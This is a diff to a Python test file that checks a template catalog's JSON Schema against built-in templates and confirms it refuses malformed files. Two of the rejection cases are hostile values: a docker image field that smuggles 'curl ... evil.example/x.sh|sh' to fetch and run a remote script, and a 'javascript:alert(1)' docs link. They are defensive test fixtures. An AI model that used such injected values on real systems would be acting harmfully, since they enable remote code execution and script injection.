@@ -1,19 +1,25 @@
 """The catalog as a contract: what a template file may hold (image grammar, Vast.ai's bounds,
-http(s) docs links, bounded YAML), every refusal one line ``file: field: reason``, and the
-public docs link cut to scheme://host/path."""
+http(s) docs links, bounded YAML), every refusal one line ``file: field: reason``, the public
+docs link cut to scheme://host/path, and the JSON Schema editors validate with."""
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
+from importlib import resources
 from pathlib import Path
+from typing import Any
 
+import jsonschema
 import pytest
 import yaml
+from pydantic import ValidationError
 
+from bot.__main__ import main as bot_main
 from bot.services.deploy import launch_spec
-from catalog import Catalog, CatalogError, Template, load_catalog, validate_dir
+from catalog import BUILTIN_SLUGS, Catalog, CatalogError, Template, load_catalog, validate_dir
 from catalog.cli import main_validate
 from catalog.export import export_template, public_url
 from catalog.loader import MAX_DEPTH, MAX_FILE_BYTES
@@ -24,6 +30,7 @@ from catalog.models import (
     LAUNCH_COMMAND_MAX,
     image_problem,
 )
+from catalog.schema import template_json_schema
 from tests.test_catalog import template_data, write
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -252,3 +259,48 @@ def test_validate_and_start_up_print_one_line_for_a_deep_file(
         assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
         assert result.stderr.strip().splitlines()[-1].endswith(expected), result.stderr
         assert result.returncode in (1, 2)
+
+
+# -- the JSON Schema ---------------------------------------------------------------------------
+
+
+def _builtin_documents() -> list[Any]:
+    folder = resources.files("catalog").joinpath("builtin")
+    return [
+        yaml.safe_load(folder.joinpath(f"{slug}.yaml").read_text(encoding="utf-8"))
+        for slug in BUILTIN_SLUGS
+    ]
+
+
+def test_the_schema_accepts_the_builtins_and_refuses_a_bad_file(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    assert bot_main(["catalog", "schema"]) == 0
+    printed = json.loads(capsys.readouterr().out)
+    assert printed == template_json_schema()
+    validator = jsonschema.Draft202012Validator(printed)
+    validator.check_schema(printed)
+
+    documents = _builtin_documents()
+    for document in documents:
+        validator.validate(document)
+    validator.validate(documents)  # a file may hold a list of templates
+    validator.validate({**template_data(), "launch_command": None})  # "leave it empty"
+
+    fields = printed["$defs"]["Template"]["properties"]
+    for name in ("slug", "docker_image", "launch_command", "env", "docs_url"):
+        assert fields[name]["title"] and fields[name]["description"], name
+
+    for bad in (
+        template_data(docker_image="x;curl${IFS}https://evil.example/x.sh|sh"),
+        template_data(tpu=4),
+        template_data(ports=[8000, 8000]),
+        template_data(docs_url="javascript:alert(1)"),
+        template_data(env={"TOKEN": "s" * (ENV_ENTRY_MAX + 1)}),
+        template_data(launch_command=7),
+        {k: v for k, v in template_data().items() if k != "docs_url"},
+    ):
+        assert not validator.is_valid(bad), bad
+        with pytest.raises(ValidationError):  # the model agrees
+            Template.model_validate(bad)
+    assert not validator.is_valid([])  # an empty list is no template file either
